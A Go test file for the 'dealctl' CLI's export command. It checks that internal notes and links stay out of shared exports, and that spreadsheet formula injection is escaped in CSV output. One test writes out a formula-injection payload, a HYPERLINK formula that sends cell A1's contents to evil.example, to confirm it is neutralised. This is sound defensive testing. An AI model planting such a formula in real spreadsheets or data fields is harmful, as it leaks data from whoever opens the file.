package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/dealctl/dealctl/exporters"
	"github.com/dealctl/dealctl/internal/api"
	"github.com/dealctl/dealctl/internal/server"
)

// postInternal gives Falcon's 2.1 two internal messages from alice (the
// owning side): a note, and an internal answer with a link, the newest
// answer she sees, so the list's latest_answer for her is internal.
func postInternal(t *testing.T, url string) {
	t.Helper()
	for _, args := range [][]string{
		{"answer", "2.1", "--kind", "internal_note", "-m", "SECRET-NOTE: price them down"},
		{"answer", "2.1", "--internal", "--no-status", "-m", "SECRET-DRAFT: accounts are restated",
			"--link", "https://secret.example/draft"},
	} {
		if r := runLive(t, url, args...); r.code != 0 {
			t.Fatalf("%v: exit %d: %s", args, r.code, r.err)
		}
	}
}

// workbookText is every cell of every sheet, the page headers and the
// document properties of an xlsx: what anyone opening or printing it sees.
func workbookText(t *testing.T, path string) string {
	t.Helper()
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var b strings.Builder
	for _, sh := range f.GetSheetList() {
		b.WriteString("[sheet " + sh + "]\n")
		rows, err := f.GetRows(sh)
		if err != nil {
			t.Fatal(err)
		}
		for _, r := range rows {
			b.WriteString(strings.Join(r, "\t") + "\n")
		}
		if hf, err := f.GetHeaderFooter(sh); err == nil {
			b.WriteString("[header] " + hf.OddHeader + "\n")
		}
	}
	if p, err := f.GetDocProps(); err == nil {
		b.WriteString("[props] " + p.Subject + " " + p.Keywords + "\n")
	}
	return b.String()
}

// TestExportLeavesInternalNotesOut: --with-messages exports the
// conversations without the owning side's internal messages (nor the
// latest answer and link they gave the row); --include-internal keeps
// them and every format with room for words says so.
func TestExportLeavesInternalNotesOut(t *testing.T) {
	t.Parallel()
	ls := startLiveServer(t, 0)
	postInternal(t, ls.URL)
	dir := t.TempDir()

	xlsx := filepath.Join(dir, "shared.xlsx")
	r := runLive(t, ls.URL, "export", "--with-messages", "-o", xlsx)
	if r.code != 0 {
		t.Fatalf("export: exit %d: %s", r.code, r.err)
	}
	if !strings.Contains(r.err, "Left out what your side posted internal: 2 internal messages, 1 latest answer, 1 link (--include-internal keeps them)") {
		t.Errorf("stderr does not say what was left out:\n%s", r.err)
	}
	text := workbookText(t, xlsx)
	for _, secret := range []string{"SECRET", "secret.example", "INTERNAL"} {
		if strings.Contains(text, secret) {
			t.Errorf("the shared workbook holds %q:\n%s", secret, text)
		}
	}
	if !strings.Contains(text, "Here are the **accounts**.") {
		t.Errorf("the shared answer is missing (latest answer and Messages):\n%s", text)
	}
	f, err := excelize.OpenFile(xlsx)
	if err != nil {
		t.Fatal(err)
	}
	sheet, _ := f.GetRows(exporters.RequestsSheet)
	f.Close()
	latest := sheet[5][slices.Index(sheet[0], "Latest answer")] // 2.1's
	if latest != "Here are the **accounts**." {
		t.Errorf("2.1's latest answer = %q, want the newest shared one", latest)
	}

	for _, format := range []string{"md", "json"} {
		out := filepath.Join(dir, "shared."+format)
		if r := runLive(t, ls.URL, "export", "--with-messages", "-o", out); r.code != 0 {
			t.Fatalf("export %s: exit %d: %s", format, r.code, r.err)
		}
		data, _ := os.ReadFile(out)
		if strings.Contains(string(data), "SECRET") || strings.Contains(string(data), "secret.example") {
			t.Errorf("the shared %s holds internal text:\n%s", format, data)
		}
	}

	// Asked for: kept, and said.
	internal := filepath.Join(dir, "internal.xlsx")
	r = runLive(t, ls.URL, "export", "--with-messages", "--include-internal", "-o", internal)
	if r.code != 0 {
		t.Fatalf("export --include-internal: exit %d: %s", r.code, r.err)
	}
	if !strings.Contains(r.err, "warning: the export holds what your side posted internal (2 internal messages, 1 latest answer, 1 link)") {
		t.Errorf("no warning on stderr:\n%s", r.err)
	}
	text = workbookText(t, internal)
	for _, want := range []string{"SECRET-NOTE: price them down", "SECRET-DRAFT: accounts are restated", "https://secret.example/draft"} {
		if !strings.Contains(text, want) {
			t.Errorf("the internal workbook lacks %q", want)
		}
	}
	f, err = excelize.OpenFile(internal)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if v, _ := f.GetCellValue(exporters.SummarySheet, "A2"); !strings.HasPrefix(v, exporters.InternalBanner) || !strings.Contains(v, "2 internal messages") {
		t.Errorf("Summary A2 = %q, want the internal banner with the count", v)
	}
	for _, sh := range f.GetSheetList() {
		if hf, err := f.GetHeaderFooter(sh); err != nil || !strings.Contains(hf.OddHeader, "INTERNAL") {
			t.Errorf("sheet %s prints without the banner: %+v %v", sh, hf, err)
		}
	}

	md := filepath.Join(dir, "internal.md")
	if r := runLive(t, ls.URL, "export", "--with-messages", "--include-internal", "-o", md); r.code != 0 {
		t.Fatalf("export md: exit %d: %s", r.code, r.err)
	}
	data, _ := os.ReadFile(md)
	if first, _, _ := strings.Cut(string(data), "\n"); !strings.Contains(first, exporters.InternalBanner) {
		t.Errorf("the internal md's first line is %q, want the banner", first)
	}
	js := filepath.Join(dir, "internal.json")
	if r := runLive(t, ls.URL, "export", "--with-messages", "--include-internal", "-o", js); r.code != 0 {
		t.Fatalf("export json: exit %d: %s", r.code, r.err)
	}
	var rows []struct {
		Number   string        `json:"number"`
		Messages []api.Message `json:"messages"`
	}
	data, _ = os.ReadFile(js)
	if err := json.Unmarshal(data, &rows); err != nil {
		t.Fatal(err)
	}
	internalMsgs := 0
	for _, row := range rows {
		for _, m := range row.Messages {
			if m.Internal {
				internalMsgs++
			}
		}
	}
	if internalMsgs != 2 {
		t.Errorf("the json marks %d messages internal, want 2", internalMsgs)
	}
}

// startInternalServer is a live server on testdata/world-internal.yaml.
func startInternalServer(t *testing.T) *liveAPI {
	t.Helper()
	db, ids := seededDB(t, filepath.Join("testdata", "world-internal.yaml"), time.Time{})
	return startServerOn(t, db, ids, "falcon", time.Time{}, server.Config{})
}

// exportedText runs export as key to a file of format and returns what a
// reader of the file sees, and the run's stderr.
func exportedText(t *testing.T, url, key, format string, args ...string) (string, string) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "export."+format)
	r := runAs(t, url, key, runOpts{}, append([]string{"export", "-o", path}, args...)...)
	r.must(t, 0)
	if format == "xlsx" {
		return workbookText(t, path), r.err
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(data), r.err
}

// TestExportLeavesInternalFilesOutOfEveryFormat: on a deal whose owning
// side gave files and links with an internal note and an internal answer,
// no export format, with or without --with-messages, holds any of them
// (nor the internal answer) unless --include-internal; the other side's
// export never holds them, nor claims to.
func TestExportLeavesInternalFilesOutOfEveryFormat(t *testing.T) {
	t.Parallel()
	ls := startInternalServer(t)
	for _, format := range []string{"csv", "xlsx", "json", "md"} {
		for _, withMessages := range [][]string{nil, {"--with-messages"}} {
			if format == "csv" && withMessages != nil {
				continue // csv has no room for conversations (exit 2)
			}
			name := format + " " + strings.Join(withMessages, "")
			got, stderr := exportedText(t, ls.URL, aliceKey, format, withMessages...)
			for _, secret := range []string{"SECRET", "secret.example"} {
				if strings.Contains(got, secret) {
					t.Errorf("%s: the export holds %q by default:\n%s", name, secret, got)
				}
			}
			if (format != "md" || withMessages != nil) && !strings.Contains(got, "shared-accounts.txt") {
				t.Errorf("%s: the shared file is missing:\n%s", name, got)
			}
			if !strings.Contains(stderr, "Left out what your side posted internal") {
				t.Errorf("%s: stderr does not say what was left out:\n%s", name, stderr)
			}

			got, stderr = exportedText(t, ls.URL, aliceKey, format, append(withMessages, "--include-internal")...)
			var want []string
			if format != "md" || withMessages != nil { // md lists files in conversations only
				want = append(want, "SECRET-NOTE-FILE.txt", "https://secret.example/note", "SECRET-ANSWER-FILE.xlsx", "https://secret.example/answer", "SECRET-ANSWER")
			}
			if withMessages != nil {
				want = append(want, "SECRET-NOTE: price them down")
			}
			if format == "md" || format == "xlsx" {
				want = append(want, exporters.InternalBanner)
			}
			for _, w := range want {
				if !strings.Contains(got, w) {
					t.Errorf("%s --include-internal: the export lacks %q:\n%s", name, w, got)
				}
			}
			if !strings.Contains(stderr, "warning: the export holds what your side posted internal") {
				t.Errorf("%s --include-internal: no warning on stderr:\n%s", name, stderr)
			}

			// The other side sees none of it, and the flag changes nothing.
			got, stderr = exportedText(t, ls.URL, bobKey, format, append(withMessages, "--include-internal")...)
			for _, secret := range []string{"SECRET", "secret.example", "INTERNAL"} {
				if strings.Contains(got, secret) {
					t.Errorf("%s: the counterparty's export holds %q:\n%s", name, secret, got)
				}
			}
			if strings.Contains(stderr, "internal") {
				t.Errorf("%s: the counterparty is told about internal content: %s", name, stderr)
			}
		}
	}
}

// TestExportCSVFormulaRoundTrip: a counterparty's answer and an owner's
// title that a spreadsheet would run as formulas land in the csv behind
// an apostrophe, and the csv imported back plans no change.
func TestExportCSVFormulaRoundTrip(t *testing.T) {
	t.Parallel()
	ls := startLiveServer(t, 0)
	bob := func(args ...string) {
		t.Helper()
		r := run(t, nil, runOpts{env: map[string]string{"DEALCTL_SERVER": ls.URL, "DEALCTL_API_KEY": "dlk_bob0000000000000000000000000000000000"}}, args...)
		if r.code != 0 {
			t.Fatalf("bob %v: exit %d: %s", args, r.code, r.err)
		}
	}
	bob("answer", "1.2", "-m", `=HYPERLINK("https://evil.example/?x="&A1,"Click for the minutes")`)
	for _, args := range [][]string{
		{"requests", "edit", "1.1", "--title", "-Certificate of incorporation"},
		{"requests", "edit", "1.1", "--requester", "@Lex"},
		{"requests", "create", "--parent", "2", "--title", "+44 numbers to call", "--body", "=1+1\n@mention"},
	} {
		if r := runLive(t, ls.URL, args...); r.code != 0 {
			t.Fatalf("%v: exit %d: %s", args, r.code, r.err)
		}
	}
	path := filepath.Join(t.TempDir(), "list.csv")
	if r := runLive(t, ls.URL, "export", "-o", path); r.code != 0 {
		t.Fatalf("export: exit %d: %s", r.code, r.err)
	}
	data, _ := os.ReadFile(path)
	for _, want := range []string{
		`"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click for the minutes"")"`,
		"'-Certificate of incorporation",
		"'@Lex",
		"'+44 numbers to call",
		"\"'=1+1\r\n@mention\"",
	} {
		if !strings.Contains(string(data), want) {
			t.Errorf("the csv lacks %q:\n%s", want, data)
		}
	}
	plan, r := planOf(t, ls.URL, path, "--dry-run")
	if r.code != 0 {
		t.Fatalf("re-import: exit %d: %s", r.code, r.err)
	}
	if s := plan.Summary; s.Create != 0 || s.Update != 0 {
		t.Errorf("the exported csv re-imported plans changes: %+v\n%s", s, r.err)
	}
}

// TestExportReadsConversationsOnlyToTellWhatIsInternal: a plain export
// reads no conversation from a server that marks internal content; from
// one that does not, the owning side's reads them to tell (and still
// leaves it all out), the counterparty's does not (it has none to see).
func TestExportReadsConversationsOnlyToTellWhatIsInternal(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name      string
		key       string
		hideExt   bool
		wantReads bool
	}{
		{"owner, marks", aliceKey, false, false},
		{"owner, no marks", aliceKey, true, true},
		{"counterparty, no marks", bobKey, true, false},
	} {
		ls := startInternalServer(t)
		ls.set(func(ts *liveAPI) { ts.hideExt = c.hideExt })
		got, _ := exportedText(t, ls.URL, c.key, "csv")
		if strings.Contains(got, "SECRET") || strings.Contains(got, "secret.example") {
			t.Errorf("%s: the export holds internal content:\n%s", c.name, got)
		}
		reads := 0
		for _, call := range ls.sentTo("GET /api/v1/deals/") {
			if strings.HasSuffix(call.URL.Path, "/messages") {
				reads++
			}
		}
		if (reads > 0) != c.wantReads {
			t.Errorf("%s: %d conversations read, want reads: %v", c.name, reads, c.wantReads)
		}
	}
}
